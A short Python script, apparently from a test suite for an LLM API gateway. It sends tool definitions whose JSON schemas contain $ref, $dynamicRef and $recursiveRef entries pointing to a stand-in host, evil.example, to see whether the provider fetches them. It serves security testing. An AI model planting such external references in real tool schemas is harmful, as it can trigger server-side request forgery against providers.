"""Refers from a tool's schema to documents that the provider would fetch."""

from __future__ import annotations

import os
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from honest import answer


def attack() -> None:
    """Carry it out."""
    from gateway_client import MARK, chat, last, message

    url = f"https://evil.example/{MARK}.json"
    for word in ("$ref", "$dynamicRef", "$recursiveRef"):
        for schema in (
            {word: url},
            {"properties": {"a": {"items": [{word: url}]}}},
            {"allOf": [{word: f"HTTPS://{MARK}"}]},
        ):
            print(
                word, chat(tools=[{"type": "function", "function": {"name": "f", "parameters": schema}}])[0]
            )
            print(word, message(tools=[{"name": "f", "input_schema": schema}])[0])
    last()


answer()
if "OPENAI_BASE_URL" in os.environ:
    attack()
